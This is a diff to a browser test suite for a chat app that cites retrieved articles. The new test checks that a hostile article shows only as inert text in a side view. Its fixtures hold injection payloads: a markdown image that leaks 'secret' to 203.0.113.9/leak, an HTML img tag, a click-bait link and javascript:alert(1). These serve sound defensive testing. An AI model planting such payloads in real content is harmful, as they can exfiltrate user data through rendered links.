@@ -116,8 +116,30 @@ def test_hostile_article_streams_and_shows_as_text(browser, hostile_chat):
             final = json.loads(frame[2:])[1]["output"]
     streamed = "".join(tokens)
     assert len(tokens) > 1 and final is not None and "\\!\\[x\\]" in final, (tokens, final)
-    assert final.startswith(streamed[:200]) and final.split("\n\n_⚠")[0] == streamed, (streamed, final)
+    # the final text is the streamed one with its [n] markers left bare (links to their sources),
+    # then any notices and the line of links to the whole articles
+    answer = final.split("\n\n_⚠")[0].rsplit("\n\nFull articles", 1)[0]
+    assert re.findall(r"(?<!\\)\[\d+\]", answer), final
+    assert re.sub(r"(?<!\\)\[(\d+)\]", r"\\[\1\\]", answer) == streamed, (streamed, final)
     screenshot(page, "07-hostile-article")
+    assert_nothing_left_the_machine(page)
+    page.context.close()
+
+
+def test_hostile_article_shows_as_text_in_the_side_view_too(browser, hostile_chat):
+    page = guarded_page(browser, hostile_chat["url"], bypass_csp=True)
+    message = ask(page, HOSTILE_QUESTION, count=1)
+    message.locator(".inline-text").first.wait_for()
+    message.locator(".bg-card", has_text="hostile.txt").first.locator(".text-2xl").click()
+    side = page.locator("#side-view-content .side-text")
+    side.wait_for()
+    page.wait_for_timeout(500)
+    shown = visible(side.inner_text())
+    for literal in ("![x](http://203.0.113.9/leak?q=secret)", "[اضغط هنا](http://203.0.113.9/click)",
+                    '<img src="http://203.0.113.9/img.png">', "javascript:alert(1)", "http://203.0.113.9/bare"):
+        assert literal in shown, shown
+    assert side.locator("img, a, b, script").count() == 0
+    screenshot(page, "34-hostile-side-view")
     assert_nothing_left_the_machine(page)
     page.context.close()
 
